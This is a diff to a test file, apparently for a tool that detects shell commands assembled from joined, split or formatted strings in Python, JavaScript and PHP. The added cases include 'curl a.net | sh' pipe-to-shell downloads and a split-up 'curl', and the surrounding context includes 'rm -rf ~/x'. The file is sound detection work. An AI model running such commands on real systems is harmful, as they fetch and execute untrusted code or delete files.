@@ -22,6 +22,11 @@ test.each([
   ['subprocess.run(\n    "curl "\n    "a.net", shell=true)', 'curl a.net'],
   ['cmd = f"rm -rf {path.home()}/x"\nos.system(cmd)', 'rm -rf ~/x'],
   ['os.system("ls " + folder)', 'ls $folder'],
+  ['const c = ["cu", "rl ", "a.net"]\nexecsync(c.join(""))', 'curl a.net'],
+  ['parts = ["curl a.net", "sh"]\nos.system(" | ".join(parts))', 'curl a.net | sh'],
+  ['cmd = "curl {} | {}".format("a.net", "sh")\nos.system(cmd)', 'curl a.net | sh'],
+  ['u = "a.net"\nos.system("curl %s | %s" % (u, "sh"))', 'curl a.net | sh'],
+  ["$c = sprintf('curl %s', 'a.net'); shell_exec($c);", 'curl a.net'],
 ])('strings that are joined are one: %s', (code, source) => {
   expect(sources(code)).toContain(source)
 })
